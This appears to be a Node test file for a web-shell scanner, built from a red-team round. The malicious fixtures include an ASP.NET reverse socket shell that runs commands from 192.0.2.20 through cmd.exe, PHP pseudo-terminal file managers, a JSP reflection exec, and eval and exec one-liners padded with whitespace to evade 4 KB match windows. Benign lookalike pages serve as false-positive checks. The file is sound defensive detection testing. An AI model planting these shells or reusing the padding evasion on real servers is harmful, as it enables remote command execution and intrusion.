import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 29's third red team (bench/redteam/README-s29w.md): the squeezed layer, mamori_php_pseudo_terminal
// and mamori_aspx_socket_shell's third form. Its files are here as it wrote them; the padded shells are made
// here, each padding written out where the rules' \s and the languages' white space differ.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

// The socket shell the red team varied (set W's shape, written again in families-s29u.test.ts), and its
// variants: [what, the text replaced, its replacement]
const SOCKET_SHELL = `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Text" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  using (var c = new TcpClient("192.0.2.20", 8443)) using (var ns = c.GetStream()) {
    var buf = new byte[4096]; int n;
    while ((n = ns.Read(buf, 0, buf.Length)) > 0) {
      var line = Encoding.UTF8.GetString(buf, 0, n);
      var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + line;
      p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
      var res = Encoding.UTF8.GetBytes(p.StandardOutput.ReadToEnd());
      ns.Write(res, 0, res.Length);
    }
  }
}
</script>`;
const SOCKET_VARIANTS: [string, string, string][] = [
  ['S29W-16: ev30_sock_slash_r.aspx, cmd /r', '"/c " + line', '"/r " + line'],
  ['S29W-17: ev31_sock_format.aspx, string.Format', '"/c " + line', 'string.Format("/c {0}", line)'],
  ['S29W-17: ev32_sock_interp.aspx, an interpolated string', '"/c " + line', '$"/c {line}"'],
  ['S29W-18: ev34_sock_readasync.aspx, ReadToEndAsync', 'p.StandardOutput.ReadToEnd()', 'p.StandardOutput.ReadToEndAsync().Result'],
  ['S29W-19: ev35_sock_client_send.aspx, Client.Send', 'ns.Write(res, 0, res.Length);', 'c.Client.Send(res);'],
];

// [what, the rule, path, the file]
const CAUGHT: [string, string, string, string][] = [
  ['S29W-22: ev50_pt_case_paren.php', 'mamori_php_pseudo_terminal', '/www/ev50_pt_case_paren.php', `<?php
session_start();
function fs_list($d) { return implode("\\n", scandir($d)); }
function fs_rm($p) { return unlink($p); }
function fs_mk($p) { return mkdir($p); }
function fs_touch($p) { return touch($p); }
function fs_get($p) { header('Content-Disposition: attachment'); readfile($p); exit; }
$words = explode(' ', trim($_POST['line'] ?? ''));
$verb = array_shift($words); $arg = implode(' ', $words);
$cwd = $_SESSION['cwd'] ?? getcwd();
switch ($verb) {
  case ('ls'): echo fs_list($cwd); break;
  case ('cd'): if (is_dir("$cwd/$arg")) $_SESSION['cwd'] = realpath("$cwd/$arg"); break;
  case ('rm'): fs_rm("$cwd/$arg"); break;
  case ('mkdir'): fs_mk("$cwd/$arg"); break;
  case ('touch'): fs_touch("$cwd/$arg"); break;
  case ('download'): fs_get("$cwd/$arg");
}`],
  ['S29W-22: ev51_pt_case_semicolon.php', 'mamori_php_pseudo_terminal', '/www/ev51_pt_case_semicolon.php', `<?php
session_start();
function fs_list($d) { return implode("\\n", scandir($d)); }
function fs_rm($p) { return unlink($p); }
function fs_mk($p) { return mkdir($p); }
function fs_touch($p) { return touch($p); }
function fs_get($p) { header('Content-Disposition: attachment'); readfile($p); exit; }
$words = explode(' ', trim($_POST['line'] ?? ''));
$verb = array_shift($words); $arg = implode(' ', $words);
$cwd = $_SESSION['cwd'] ?? getcwd();
switch ($verb) {
  case 'ls'; echo fs_list($cwd); break;
  case 'cd'; if (is_dir("$cwd/$arg")) $_SESSION['cwd'] = realpath("$cwd/$arg"); break;
  case 'rm'; fs_rm("$cwd/$arg"); break;
  case 'mkdir'; fs_mk("$cwd/$arg"); break;
  case 'touch'; fs_touch("$cwd/$arg"); break;
  case 'download'; fs_get("$cwd/$arg");
}`],
  ['S29W-23: ev52_pt_upper.php', 'mamori_php_pseudo_terminal', '/www/ev52_pt_upper.php', `<?php
session_start();
function fs_list($d) { return implode("\\n", scandir($d)); }
function fs_rm($p) { return unlink($p); }
function fs_mk($p) { return mkdir($p); }
function fs_touch($p) { return touch($p); }
function fs_get($p) { header('Content-Disposition: attachment'); readfile($p); exit; }
$words = explode(' ', trim($_POST['line'] ?? ''));
$verb = strtoupper(array_shift($words)); $arg = implode(' ', $words);
$cwd = $_SESSION['cwd'] ?? getcwd();
switch ($verb) {
  case 'LS': echo fs_list($cwd); break;
  case 'CD': if (is_dir("$cwd/$arg")) $_SESSION['cwd'] = realpath("$cwd/$arg"); break;
  case 'RM': fs_rm("$cwd/$arg"); break;
  case 'MKDIR': fs_mk("$cwd/$arg"); break;
  case 'TOUCH': fs_touch("$cwd/$arg"); break;
  case 'DOWNLOAD': fs_get("$cwd/$arg");
}`],
];

// [what, the verdict wanted ('clean' or 'not malicious'), path, the file]
const BENIGN: [string, 'clean' | 'not malicious', string, string][] = [
  ['S29W-1: fp01_terminal_portfolio.php', 'clean', '/www/fp01_terminal_portfolio.php', `<?php
/**
 * index.php â "terminal" style personal homepage (think ~/jdoe$). Visitors type a few
 * commands; everything served comes from ./content, a read-only folder shipped with the site.
 */
declare(strict_types=1);
session_start();
const CONTENT = __DIR__ . '/content';
$pages = ['about' => 'about.md', 'projects' => 'projects.md', 'contact' => 'contact.md', 'cv.pdf' => 'cv.pdf'];
$dir = $_SESSION['dir'] ?? '~';
$input = trim((string)($_POST['cmd'] ?? ''));
[$verb, $arg] = array_pad(preg_split('/\\s+/', $input, 2), 2, '');
header('Content-Type: text/plain; charset=utf-8');
switch ($verb) {
  case 'help':
    echo "commands: ls, cd, pwd, cat <page>, download cv.pdf, clear\\n";
    break;
  case 'ls':
    echo implode('  ', array_keys($pages)), "\\n";
    break;
  case 'pwd':
    echo "/home/jdoe/$dir\\n";
    break;
  case 'cd':
    $_SESSION['dir'] = in_array($arg, ['~', 'projects'], true) ? $arg : '~';
    break;
  case 'cat':
    if (isset($pages[$arg]) && substr($pages[$arg], -3) === '.md') readfile(CONTENT . '/' . $pages[$arg]);
    else echo "cat: $arg: No such file\\n";
    break;
  case 'download':
    if ($arg === 'cv.pdf') { header('Content-Type: application/pdf'); header('Content-Disposition: attachment; filename="jdoe-cv.pdf"'); readfile(CONTENT . '/cv.pdf'); exit; }
    echo "download: only cv.pdf\\n";
    break;
  case 'clear':
    break;
  default:
    echo htmlspecialchars($verb), ": command not found\\n";
}
`],
  ['S29W-2: fp02_cmd_cheatsheet.php', 'clean', '/www/fp02_cmd_cheatsheet.php', `<?php
// Linux command cheat sheet: /cheatsheet.php?cmd=ls renders docs/ls.html with a short summary.
require __DIR__ . '/inc/layout.php';
$cmd = isset($_GET['cmd']) ? strtolower($_GET['cmd']) : 'ls';
switch ($cmd) {
  case 'ls':    $title = 'ls â list directory contents'; break;
  case 'cd':    $title = 'cd â change the working directory'; break;
  case 'pwd':   $title = 'pwd â print the working directory'; break;
  case 'cp':    $title = 'cp â copy files and directories'; break;
  case 'mv':    $title = 'mv â move (rename) files'; break;
  case 'rm':    $title = 'rm â remove files or directories'; break;
  case 'mkdir': $title = 'mkdir â make directories'; break;
  case 'rmdir': $title = 'rmdir â remove empty directories'; break;
  case 'touch': $title = 'touch â change file timestamps'; break;
  case 'cat':   $title = 'cat â concatenate files and print'; break;
  case 'chmod': $title = 'chmod â change file mode bits'; break;
  default: http_response_code(404); $cmd = 'index'; $title = 'Command not found';
}
layout_header($title);
readfile(__DIR__ . '/docs/' . $cmd . '.html');
layout_footer();
`],
  ['S29W-3: fp03_cms_media_manager.php', 'not malicious', '/www/fp03_cms_media_manager.php', `<?php
// admin/media.php â media library of a small CMS (admins only). All paths are kept inside UPLOAD_ROOT.
require __DIR__ . '/../bootstrap.php';
Auth::requireRole('admin');
Csrf::check($_POST['_token'] ?? '');
$root = realpath(UPLOAD_ROOT);
function inside(string $root, string $rel): string {
  $p = realpath($root . '/' . $rel) ?: $root . '/' . basename($rel);
  if (strpos($p, $root) !== 0) { http_response_code(403); exit('outside media root'); }
  return $p;
}
$dir = inside($root, $_POST['dir'] ?? '');
switch ($_POST['action'] ?? '') {
  case 'upload':
    $name = preg_replace('/[^\\w.-]/', '_', $_FILES['file']['name']);
    if (!preg_match('/\\.(jpe?g|png|gif|webp|pdf)$/i', $name)) exit('type not allowed');
    move_uploaded_file($_FILES['file']['tmp_name'], "$dir/$name");
    break;
  case 'download':
    $f = inside($root, $_POST['path']);
    header('Content-Disposition: attachment; filename="' . basename($f) . '"');
    readfile($f);
    exit;
  case 'mkdir':
    mkdir($dir . '/' . preg_replace('/[^\\w-]/', '', $_POST['name']));
    break;
  case 'rmdir':
    rmdir(inside($root, $_POST['path']));
    break;
  case 'del':
    unlink(inside($root, $_POST['path']));
    break;
  case 'chmod':
    chmod(inside($root, $_POST['path']), !empty($_POST['public']) ? 0644 : 0600);
    break;
}
Flash::set('done');
header('Location: media.php?dir=' . urlencode($_POST['dir'] ?? ''));
`],
  ['S29W-4: fp04_web_ftp_client.php', 'clean', '/www/fp04_web_ftp_client.php', `<?php
/* webftp/index.php â a small browser FTP client: the user logs in to *their own* FTP account and
   the page relays commands to that remote server with PHP's ftp_* functions. */
session_start();
if (empty($_SESSION['ftp'])) { header('Location: login.php'); exit; }
[$host, $user, $pass] = $_SESSION['ftp'];
$c = ftp_connect($host, 21, 10) or die('cannot connect');
ftp_login($c, $user, $pass) or die('login failed');
ftp_pasv($c, true);
if (!empty($_SESSION['cwd'])) ftp_chdir($c, $_SESSION['cwd']);
$cmd = $_POST['cmd'] ?? 'ls';
$arg = $_POST['arg'] ?? '';
switch ($cmd) {
  case 'ls': case 'dir':
    $list = ftp_rawlist($c, '.');
    break;
  case 'pwd':
    $msg = ftp_pwd($c);
    break;
  case 'cd':
    if (ftp_chdir($c, $arg)) $_SESSION['cwd'] = ftp_pwd($c);
    break;
  case 'mkdir':
    ftp_mkdir($c, $arg);
    break;
  case 'rmdir':
    ftp_rmdir($c, $arg);
    break;
  case 'del':
    ftp_delete($c, $arg);
    break;
  case 'download':
    $tmp = tempnam(sys_get_temp_dir(), 'ftp');
    if (ftp_get($c, $tmp, $arg, FTP_BINARY)) {
      header('Content-Disposition: attachment; filename="' . basename($arg) . '"');
      readfile($tmp);
    }
    unlink($tmp);
    exit;
  case 'upload':
    ftp_put($c, basename($_FILES['f']['name']), $_FILES['f']['tmp_name'], FTP_BINARY);
    break;
}
ftp_close($c);
include 'view.php';
`],
  ['S29W-5: fp05_aspx_graphite_checks.aspx', 'not malicious', '/www/fp05_aspx_graphite_checks.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Text" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
// /ops/push-metrics.aspx â hit by the scheduler every minute: runs the site's fixed health checks
// (batch files under ~/App_Data/checks) and pushes each result to Graphite's plaintext port.
static readonly string[] Checks = { "disk_free.cmd", "iis_queue.cmd", "sql_ping.cmd" };
void Page_Load(object o, EventArgs e) {
  if (!Request.IsLocal) { Response.StatusCode = 403; return; }
  using (var c = new TcpClient("graphite.internal", 2003)) using (var ns = c.GetStream()) {
    foreach (var check in Checks) {
      var script = Server.MapPath("~/App_Data/checks/" + check);
      var p = new Process();
      p.StartInfo.FileName = "cmd.exe";
      p.StartInfo.Arguments = "/c " + script;
      p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.StartInfo.CreateNoWindow = true;
      p.Start();
      var value = p.StandardOutput.ReadToEnd().Trim();
      p.WaitForExit(10000);
      var line = Encoding.ASCII.GetBytes("web01.checks." + check.Replace(".cmd", "") + " " + value + " " + DateTimeOffset.UtcNow.ToUnixTimeSeconds() + "\\n");
      ns.Write(line, 0, line.Length);
    }
  }
  Response.Write("ok");
}
</script>`],
  ['S29W-6: fp06_aspx_syslog_backup.aspx', 'clean', '/www/fp06_aspx_syslog_backup.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Text" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
// admin/backup.aspx â admins start the nightly backup job by hand; its log goes to the central syslog (TCP 514).
void Run_Click(object sender, EventArgs e) {
  if (!User.IsInRole("Administrators")) return;
  string job = JobList.SelectedValue == "full" ? "backup_full.bat" : "backup_diff.bat";
  var psi = new ProcessStartInfo("cmd.exe", "/c " + job) { WorkingDirectory = @"D:\\ops\\jobs", UseShellExecute = false, RedirectStandardOutput = true };
  string log;
  using (var p = Process.Start(psi)) { log = p.StandardOutput.ReadToEnd(); p.WaitForExit(); }
  var sock = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
  sock.Connect("syslog.internal", 514);
  var ack = new byte[64];
  byte[] msg = Encoding.UTF8.GetBytes("<134>web01 backup: " + log.Replace("\\r\\n", " | ") + "\\n");
  sock.Send(msg, 0, msg.Length, SocketFlags.None);
  sock.Receive(ack);
  sock.Close();
  Status.Text = Server.HtmlEncode(log);
}
</script>
<form runat="server"><asp:DropDownList id="JobList" runat="server"><asp:ListItem>full</asp:ListItem><asp:ListItem>diff</asp:ListItem></asp:DropDownList>
<asp:Button runat="server" Text="Run" OnClick="Run_Click" /><pre><asp:Literal id="Status" runat="server" /></pre></form>`],
  ['S29W-7: fp07_php_avatar_upload_blanklines.php', 'clean', '/www/fp07_php_avatar_upload_blanklines.php', `<?php
// account/avatar.php â members change their profile picture (jpeg/png, 2 MB, re-encoded with GD).
require __DIR__ . '/../bootstrap.php';
$user = Auth::requireLogin();
$error = '';
if ($_SERVER['REQUEST_METHOD'] === 'POST' && Csrf::valid($_POST['_token'] ?? '')) {
  $f = $_FILES['avatar'] ?? null;
  if (!$f || $f['error'] !== UPLOAD_ERR_OK) $error = 'Upload failed.';
  elseif ($f['size'] > 2 * 1024 * 1024) $error = 'Too large.';
  else {
    $info = getimagesize($f['tmp_name']);
    if (!$info || !in_array($info[2], [IMAGETYPE_JPEG, IMAGETYPE_PNG], true)) $error = 'Not a picture.';
    else {
      $dest = AVATAR_DIR . '/' . $user->id . '.jpg';
      move_uploaded_file($_FILES['avatar']['tmp_name'], $dest . '.tmp');
      $img = imagecreatefromstring(file_get_contents($dest . '.tmp'));
      imagejpeg($img, $dest, 85);
      unlink($dest . '.tmp');
      header('Location: /account/?saved=1'); exit;
    }
  }
}
?>

                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        
                                        <!doctype html>
<html><head><title>Change avatar</title><link rel="stylesheet" href="/css/site.css">  <style>
    .container { max-width: 40rem; margin: 2rem auto; font-family: system-ui, sans-serif; }
    .avatar { width: 128px; height: 128px; border-radius: 50%; object-fit: cover; border: 2px solid #ddd; }
    .error { color: #b00020; background: #fde7ea; padding: .5rem 1rem; border-radius: 4px; }
    form { display: flex; gap: 1rem; align-items: center; margin-top: 1rem; }
    button { padding: .5rem 1.25rem; border: 0; border-radius: 4px; background: #1565c0; color: #fff; }
    button:hover { background: #0d47a1; }
    footer { margin-top: 3rem; color: #777; font-size: .85rem; }
  </style>
</head>
<body>
  <main class="container">
    <h1>Your picture</h1>
    <?php if ($error): ?><p class="error"><?= htmlspecialchars($error) ?></p><?php endif; ?>
    <img class="avatar" src="/avatars/<?= (int)$user->id ?>.jpg" alt="">
    <form method="post" enctype="multipart/form-data">
      <input type="hidden" name="_token" value="<?= Csrf::token() ?>">
      <input type="file" name="avatar" accept="image/jpeg,image/png">
      <button>Save</button>
    </form>
  </main>
  <footer>Pictures are resized to 256 by 256 pixels and stored as JPEG. Old pictures are replaced. Questions: support@example.org</footer>
</body></html>
`],
  ['S29W-8: fp08_aspx_ticket_upload_blanklines.aspx', 'clean', '/www/fp08_aspx_ticket_upload_blanklines.aspx', `<%@ Page Language="C#" %>
<script runat="server">
// /members/upload.aspx â members attach a PDF to their ticket; checked type, size and name.
void Upload_Click(object s, EventArgs e) {
  if (!User.Identity.IsAuthenticated || !DocUpload.HasFile) return;
  var ext = System.IO.Path.GetExtension(DocUpload.FileName).ToLowerInvariant();
  if (ext != ".pdf" || DocUpload.PostedFile.ContentLength > 5 * 1024 * 1024) { Msg.Text = "PDF up to 5 MB only"; return; }
  var safe = System.Text.RegularExpressions.Regex.Replace(System.IO.Path.GetFileNameWithoutExtension(DocUpload.FileName), @"[^\\w-]", "_");
  DocUpload.SaveAs(Server.MapPath("~/App_Data/tickets/") + User.Identity.Name + "_" + safe + ".pdf");
  Msg.Text = "Attached " + Server.HtmlEncode(DocUpload.FileName);
}
</script>

																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														
																														<html><head><title>Attach a document</title><style>
  body { font-family: Segoe UI, Arial, sans-serif; margin: 2rem; } .hint { color: #666; font-size: 90%; }
  .box { border: 1px solid #ccc; padding: 1rem 1.5rem; max-width: 36rem; border-radius: 6px; background: #fafafa; }
  input[type=submit] { background: #2e7d32; color: white; border: 0; padding: .4rem 1rem; border-radius: 3px; }
</style></head>
<body><div class="box"><h2>Attach a document to your ticket</h2><p class="hint">Only PDF files up to 5 MB. Files are stored with your ticket and deleted 90 days after it is closed. Do not upload passwords or card numbers.</p><form runat="server">
  <asp:FileUpload id="DocUpload" runat="server" accept=".pdf" />
  <asp:Button runat="server" Text="Attach" OnClick="Upload_Click" />
  <asp:Label id="Msg" runat="server" />
</form></div><p class="hint">Need help? Call the service desk on extension 4400 or write to servicedesk@example.org. Opening hours 8:00 to 18:00, Monday to Friday.</p></body></html>
`],
];

// Padding of 5,000 characters: YARA-X reads at most 4 KB into one match. [name, the padding's character(s)]
const SPACE: [string, string][] = [['spaces', ' '], ['vertical tabs', '\v'], ['form feeds', '\f'], ['tabs and newlines', '\t\n']];
// (C# and JScript read Unicode's space separators as white space: written here as their UTF-8 bytes, read as latin1)
const UNICODE: [string, string][] = [['no-break spaces', '\u00c2\u00a0'], ['em spaces', '\u00e2\u0080\u0083'], ['ideographic spaces', '\u00e3\u0080\u0080']];
const pad = (p: string) => p.repeat(Math.ceil(5000 / p.length));

describe('scan: session 29\'s third red team (S29W)', () => {
  for (const [name, p] of SPACE) {
    it(`malicious: a PHP call, a JSP exec and an ASP.NET eval padded with ${name}`, () => {
      const php = scan(`<?php\n$p = array("s", "y", "s", "t", "e", "m");\nimplode(''${pad(p)}, $p)($_GET['q']);`, '/www/p.php');
      assert.equal(php.verdict, 'malicious', JSON.stringify(php.findings));
      const jsp = scan(`<% Runtime.getRuntime().exec(${pad(p)}request.getParameter("c")); %>`, '/www/c.jsp');
      assert.equal(jsp.verdict, 'malicious', JSON.stringify(jsp.findings));
      const aspx = scan(`<%@ Page Language="Jscript" %><% eval(${pad(p)}Request.Item["z"], "unsafe"); %>`, '/www/e.aspx');
      assert.equal(aspx.verdict, 'malicious', JSON.stringify(aspx.findings));
    });
  }
  for (const [name, p] of UNICODE) {
    it(`malicious: an ASP.NET eval and an Assembly.Load padded with ${name}`, () => {
      const aspx = scan(`<%@ Page Language="Jscript" %><% eval(${pad(p)}Request.Item["z"], "unsafe"); %>`, '/www/e.aspx');
      assert.equal(aspx.verdict, 'malicious', JSON.stringify(aspx.findings));
      const cs = scan(`<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(${p}Convert.FromBase64String(${p}Request.Form["k"])).CreateInstance("U"); %>`, '/www/l.aspx');
      assert.equal(cs.verdict, 'malicious', JSON.stringify(cs.findings));
    });
  }
  for (const [name, from, to] of SOCKET_VARIANTS) {
    it(`malicious: ${name}`, () => {
      assert.ok(SOCKET_SHELL.includes(from), from);
      const r = scan(SOCKET_SHELL.replace(from, to), '/www/s.aspx');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === 'mamori_aspx_socket_shell'), JSON.stringify(r.findings));
    });
  }
  for (const [name, rule, path, src] of CAUGHT) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, want, path, src] of BENIGN) {
    it(`${want}: ${name}`, () => {
      const r = scan(src, path);
      if (want === 'clean') assert.equal(r.verdict, 'clean', JSON.stringify(r.findings));
      else assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('JSP: a method of Runtime invoked by reflection with a name worked out at run time and request input (session 29 probe); a memory page is not', () => {
    const shell = scan(`<%! String d(String s) { return new StringBuilder(s).reverse().toString(); } %><% Runtime.getRuntime().getClass().getMethod(d("cexe"), String.class).invoke(Runtime.getRuntime(), request.getParameter("c")); %>`, '/www/r.jsp');
    assert.equal(shell.verdict, 'malicious', JSON.stringify(shell.findings));
    assert.ok(shell.findings.some((f) => f.rule === 'mamori_jsp_runtime_reflect_input'), JSON.stringify(shell.findings));
    const memory = scan(`<% String which = request.getParameter("m"); Object v = Runtime.getRuntime().getClass().getMethod("totalMemory").invoke(Runtime.getRuntime()); out.print(which + ": " + v); %>`, '/www/mem.jsp');
    assert.equal(memory.verdict, 'clean', JSON.stringify(memory.findings));
  });
  it('ran every case', () => {
    assert.equal(CAUGHT.length + SOCKET_VARIANTS.length, 8);
    assert.equal(BENIGN.length, 8);
    assert.equal(SPACE.length + UNICODE.length, 7);
  });
});
